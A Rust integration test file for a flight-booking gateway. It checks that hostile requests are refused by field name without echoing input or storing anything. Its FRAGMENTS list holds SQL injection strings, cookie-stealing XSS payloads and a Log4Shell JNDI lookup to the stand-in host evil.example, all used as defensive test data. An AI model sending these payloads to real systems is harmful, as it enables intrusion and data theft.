//! Hostile input against the running gateway: oversized bodies, wrong
//! content types, SQL and script fragments in every string field, invalid
//! IATA codes, past dates, absurd passenger counts, unknown fields. Each is
//! refused with a JSON error naming the problem (and the field), never
//! echoing what was sent; nothing is stored and nothing is published.

use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{Value, json};

use autobook_tests::TestSystem;
use autobook_tests::gateway::{Answer, spawn_gateway, token, trip_body};

/// A body with every optional string field present, so each can be spoilt.
fn full_body() -> Value {
    let mut body = trip_body();
    let departure = body["departure_date"].as_str().unwrap().to_owned();
    body["return_date"] = json!(departure);
    body["book_by"] = json!(departure);
    body["departure_window"] = json!({"earliest": "06:00", "latest": "21:30"});
    body["airlines"] = json!(["AA"]);
    body["payment"]["customer"] = json!("cus_NffrFeUfNV2Hib");
    body
}

/// Every string field: its JSON pointer and the field path errors name.
const STRING_FIELDS: &[(&str, &str)] = &[
    ("/origin", "origin"),
    ("/destination", "destination"),
    ("/departure_date", "departure_date"),
    ("/return_date", "return_date"),
    ("/book_by", "book_by"),
    ("/cabin_class", "cabin_class"),
    ("/contact_email", "contact_email"),
    ("/passengers/0/title", "passengers[0].title"),
    ("/passengers/0/gender", "passengers[0].gender"),
    ("/passengers/0/given_name", "passengers[0].given_name"),
    ("/passengers/0/family_name", "passengers[0].family_name"),
    ("/passengers/0/born_on", "passengers[0].born_on"),
    ("/passengers/0/email", "passengers[0].email"),
    ("/passengers/0/phone_number", "passengers[0].phone_number"),
    ("/max_price/currency", "max_price.currency"),
    ("/payment/payment_method", "payment.payment_method"),
    ("/payment/customer", "payment.customer"),
    ("/departure_window/earliest", "departure_window.earliest"),
    ("/departure_window/latest", "departure_window.latest"),
    ("/airlines/0", "airlines[0]"),
];

const FRAGMENTS: &[&str] = &[
    "'; DROP TABLE sagas;--",
    "1' OR '1'='1",
    "Robert'); DELETE FROM trip_submissions; --",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/a}",
];

/// Checks a refusal: status, code, field, a message, no echo of the input.
fn refused(answer: &Answer, status: StatusCode, code: &str, field: Option<&str>, what: &str) {
    assert_eq!(answer.status, status, "{what}: {}", answer.text);
    assert_eq!(answer.code(), code, "{what}: {}", answer.text);
    if let Some(field) = field {
        assert_eq!(answer.field(), field, "{what}: {}", answer.text);
    }
    let message = answer.body["error"]["message"].as_str().unwrap_or_default();
    assert!(
        message.len() > 10,
        "{what}: the message says too little: {message}"
    );
    for echoed in [
        "DROP", "DELETE", "<script", "onerror", "jndi", "Earhart", "amelia@",
    ] {
        assert!(
            !answer.text.contains(echoed),
            "{what} echoed {echoed}: {}",
            answer.text
        );
    }
    assert_eq!(answer.headers["content-type"], "application/json", "{what}");
}

async fn submit_raw(system: &TestSystem, content_type: Option<&str>, body: Vec<u8>) -> Answer {
    let api = system.api();
    let mut request = api
        .client
        .post(api.url("/v1/trip-requests"))
        .bearer_auth(token("usr_hostile"))
        .body(body);
    if let Some(content_type) = content_type {
        request = request.header("content-type", content_type);
    }
    api.send(request).await
}

#[tokio::test]
async fn hostile_requests_are_refused_by_name_and_leave_nothing_behind() {
    let system = spawn_gateway().await;
    let mut published = system.observe(&["trip.requested"]).await;
    let api = system.api();
    let bearer = token("usr_hostile");
    let post = |body: Value| {
        let request = api
            .client
            .post(api.url("/v1/trip-requests"))
            .bearer_auth(&bearer)
            .json(&body);
        api.send(request)
    };

    // The whole body is in order before it is spoilt.
    let json_of = |v: &Value| serde_json::to_vec(v).unwrap();

    // Size and form.
    let mut huge = full_body();
    huge["passengers"][0]["given_name"] = json!("A".repeat(70 * 1024));
    let answer = submit_raw(&system, Some("application/json"), json_of(&huge)).await;
    refused(
        &answer,
        StatusCode::PAYLOAD_TOO_LARGE,
        "body_too_large",
        None,
        "oversized",
    );
    for content_type in [
        None,
        Some("text/plain"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/jsonp"),
    ] {
        let answer = submit_raw(&system, content_type, json_of(&full_body())).await;
        let what = format!("content type {content_type:?}");
        refused(
            &answer,
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported_media_type",
            Some("Content-Type"),
            &what,
        );
    }
    for (what, raw) in [
        ("truncated JSON", b"{\"origin\": \"JFK\"".to_vec()),
        ("not JSON", b"origin=JFK&destination=LAX".to_vec()),
        (
            "deep nesting",
            [vec![b'['; 5000], vec![b']'; 5000]].concat(),
        ),
        ("empty body", Vec::new()),
    ] {
        let answer = submit_raw(&system, Some("application/json"), raw).await;
        refused(&answer, StatusCode::BAD_REQUEST, "invalid_json", None, what);
    }
    for body in [json!([full_body()]), json!("JFK"), json!(null), json!(42)] {
        let answer = post(body.clone()).await;
        refused(
            &answer,
            StatusCode::UNPROCESSABLE_ENTITY,
            "invalid_body",
            None,
            &body.to_string(),
        );
    }

    // SQL and script fragments in every string field.
    for fragment in FRAGMENTS {
        for (pointer, field) in STRING_FIELDS {
            let mut body = full_body();
            *body.pointer_mut(pointer).unwrap() = json!(fragment);
            let answer = post(body).await;
            let what = format!("{fragment} in {field}");
            refused(
                &answer,
                StatusCode::UNPROCESSABLE_ENTITY,
                "invalid_field",
                Some(field),
                &what,
            );
        }
    }

    // Invalid IATA codes: malformed, and well-formed but not a place.
    for (code, expected) in [
        ("jfk", "invalid_field"),
        ("JF", "invalid_field"),
        ("JFKX", "invalid_field"),
        ("J1K", "invalid_field"),
        ("", "invalid_field"),
        ("ZZZ", "unknown_place"),
    ] {
        for field in ["origin", "destination"] {
            let mut body = full_body();
            body[field] = json!(code);
            let answer = post(body).await;
            refused(
                &answer,
                StatusCode::UNPROCESSABLE_ENTITY,
                expected,
                Some(field),
                &format!("{field}={code}"),
            );
        }
    }
    let mut body = full_body();
    body["destination"] = json!("NYC");
    let answer = post(body).await;
    refused(
        &answer,
        StatusCode::UNPROCESSABLE_ENTITY,
        "same_origin_and_destination",
        Some("destination"),
        "JFK to NYC",
    );

    // Dates: past, too far ahead, out of order.
    let rules: Vec<(&str, Value, &str, &str)> = vec![
        (
            "departure_date",
            json!("2020-01-01"),
            "date_in_past",
            "departure_date",
        ),
        (
            "departure_date",
            json!("2099-01-01"),
            "date_too_far_ahead",
            "departure_date",
        ),
        (
            "departure_date",
            json!("2027-02-30"),
            "invalid_field",
            "departure_date",
        ),
        (
            "return_date",
            json!("2020-01-01"),
            "return_before_departure",
            "return_date",
        ),
        (
            "book_by",
            json!("2020-01-01"),
            "book_by_out_of_range",
            "book_by",
        ),
        ("max_stops", json!(3), "max_stops", "max_stops"),
        ("max_stops", json!(300), "invalid_field", "max_stops"),
        ("airlines", json!(["Q9"]), "unknown_airline", "airlines[0]"),
        (
            "airlines",
            json!(["AA", "AA"]),
            "duplicate_airline",
            "airlines[1]",
        ),
        (
            "departure_window",
            json!({"earliest": "21:00", "latest": "06:00"}),
            "empty_departure_window",
            "departure_window",
        ),
        (
            "max_price",
            json!({"amount_minor": -1, "currency": "USD"}),
            "non_positive_price",
            "max_price.amount_minor",
        ),
        (
            "max_price",
            json!({"amount_minor": 1e30, "currency": "USD"}),
            "invalid_field",
            "max_price.amount_minor",
        ),
        (
            "max_price",
            json!({"amount_minor": "500", "currency": "USD"}),
            "invalid_field",
            "max_price.amount_minor",
        ),
    ];
    for (field, value, code, expected) in rules {
        let mut body = full_body();
        body[field] = value.clone();
        let answer = post(body).await;
        refused(
            &answer,
            StatusCode::UNPROCESSABLE_ENTITY,
            code,
            Some(expected),
            &format!("{field}={value}"),
        );
    }
    let mut body = full_body();
    body["passengers"][0]["born_on"] = json!("1890-01-01");
    let answer = post(body).await;
    refused(
        &answer,
        StatusCode::UNPROCESSABLE_ENTITY,
        "implausible_age",
        Some("passengers[0].born_on"),
        "born 1890",
    );

    // Absurd passenger counts.
    for count in [0, 10, 50] {
        let mut body = full_body();
        let one = body["passengers"][0].clone();
        body["passengers"] = Value::Array(vec![one; count]);
        let answer = post(body).await;
        refused(
            &answer,
            StatusCode::UNPROCESSABLE_ENTITY,
            "passenger_count",
            Some("passengers"),
            &format!("{count} passengers"),
        );
    }

    // Unknown fields anywhere, and a user id of one's choosing. A key that
    // is none of the contract's field names may be data: the refusal names
    // the object holding it; a field name of the contract is named.
    for (pointer, name, field) in [
        ("", "is_admin", "body"),
        ("/passengers/0", "ssn", "passengers[0]"),
        ("/payment", "amount", "payment.amount"),
        ("/max_price", "discount", "max_price"),
    ] {
        let mut body = full_body();
        body.pointer_mut(pointer).unwrap()[name] = json!(true);
        let answer = post(body).await;
        refused(
            &answer,
            StatusCode::UNPROCESSABLE_ENTITY,
            "unknown_field",
            Some(field),
            field,
        );
        if !field.ends_with(name) {
            assert!(!answer.text.contains(name), "{name}: {}", answer.text);
        }
    }
    let mut body = full_body();
    body["user_id"] = json!("usr_victim");
    let answer = post(body).await;
    refused(
        &answer,
        StatusCode::UNPROCESSABLE_ENTITY,
        "forbidden_field",
        Some("user_id"),
        "user_id",
    );
    let mut body = full_body();
    body.as_object_mut().unwrap().remove("payment");
    let answer = post(body).await;
    refused(
        &answer,
        StatusCode::UNPROCESSABLE_ENTITY,
        "missing_field",
        Some("payment"),
        "no payment",
    );

    // A bad Idempotency-Key.
    let answer = api
        .send(
            api.client
                .post(api.url("/v1/trip-requests"))
                .bearer_auth(&bearer)
                .header("Idempotency-Key", "k".repeat(256))
                .json(&full_body()),
        )
        .await;
    refused(
        &answer,
        StatusCode::BAD_REQUEST,
        "invalid_idempotency_key",
        Some("Idempotency-Key"),
        "long key",
    );

    // Nothing was stored.
    let pool = &system.stack().pool;
    let submissions = autobook_orchestrator::testing::submissions::count(pool)
        .await
        .unwrap();
    assert_eq!(
        submissions, 0,
        "trip_submissions holds rows from refused requests"
    );
    let stored = autobook_orchestrator::testing::sagas::stored_rows(pool, None)
        .await
        .unwrap();
    for (table, rows) in [
        ("sagas", stored.sagas),
        ("inbox", stored.inbox),
        ("outbox", stored.outbox),
    ] {
        assert_eq!(rows, 0, "{table} holds rows from refused requests");
    }
    // Nothing was published: the first trip request the broker routes is
    // the valid one sent last.
    let answer = post(full_body()).await;
    assert_eq!(answer.status, StatusCode::ACCEPTED, "{}", answer.text);
    let first = published.next(Duration::from_secs(10)).await.unwrap();
    assert_eq!(
        first.saga_id.to_string(),
        answer.body["trip_id"].as_str().unwrap()
    );
    system.teardown().await;
}
